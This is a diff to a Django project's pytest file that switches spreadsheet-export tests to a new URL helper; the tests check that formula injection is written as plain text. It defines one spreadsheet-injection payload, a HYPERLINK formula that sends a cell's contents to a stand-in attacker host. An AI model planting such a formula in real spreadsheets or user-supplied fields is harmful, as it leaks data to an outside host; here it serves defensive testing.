@@ -8,13 +8,13 @@ from collections.abc import Callable
 
 import pytest
 from django.test import Client
-from django.urls import reverse
 from openpyxl import Workbook, load_workbook
 
 from helhedsplan.activities.models import Activity
 from helhedsplan.criteria.models import SuccessCriterion
 from helhedsplan.lib.spreadsheets import csv_safe, csv_writer, looks_like_formula, xlsx_text_only
 from helhedsplan.plans.models import Plan
+from helhedsplan.reports.exporters import export_url
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1;"klik")'
 
@@ -25,18 +25,18 @@ def _cells(content: bytes) -> list[tuple[object, str]]:
 
 
 @pytest.mark.parametrize(
-    ("url_name", "query"),
+    ("exporter", "query"),
     [
-        ("activities:plan_export", ""),
-        ("activities:delivery_export", "?aar=2018"),
+        ("aktivitetsskema", {}),
+        ("leverancemaaling", {"aar": 2018}),
     ],
 )
 def test_activity_exports_write_a_formula_like_name_as_text(
-    plan: Plan, client_for: Callable[[str], Client], url_name: str, query: str
+    plan: Plan, client_for: Callable[[str], Client], exporter: str, query: dict[str, int]
 ) -> None:
     # The demo plan's activities, one renamed to what an attacker would type.
     Activity.objects.filter(plan=plan, slug="tryghedsvandringer").update(name=EVIL)
-    response = client_for("secretariat").get(reverse(url_name, args=[plan.slug]) + query)
+    response = client_for("secretariat").get(export_url(plan, exporter, "xlsx", **query))
     cells = _cells(response.content)
     assert (EVIL, "s") in cells
     assert not [v for v, kind in cells if kind == "f"]
@@ -46,7 +46,7 @@ def test_scorecard_export_writes_a_formula_like_title_as_text(
     plan: Plan, client_for: Callable[[str], Client]
 ) -> None:
     SuccessCriterion.objects.filter(plan=plan, code="5.2.2").update(title=EVIL)
-    url = reverse("criteria:export", args=[plan.slug]) + "?year=2016"
+    url = export_url(plan, "succeskriterier", "xlsx", year=2016)
     cells = _cells(client_for("secretariat").get(url).content)
     assert (EVIL, "s") in cells
     assert not [v for v, kind in cells if kind == "f"]
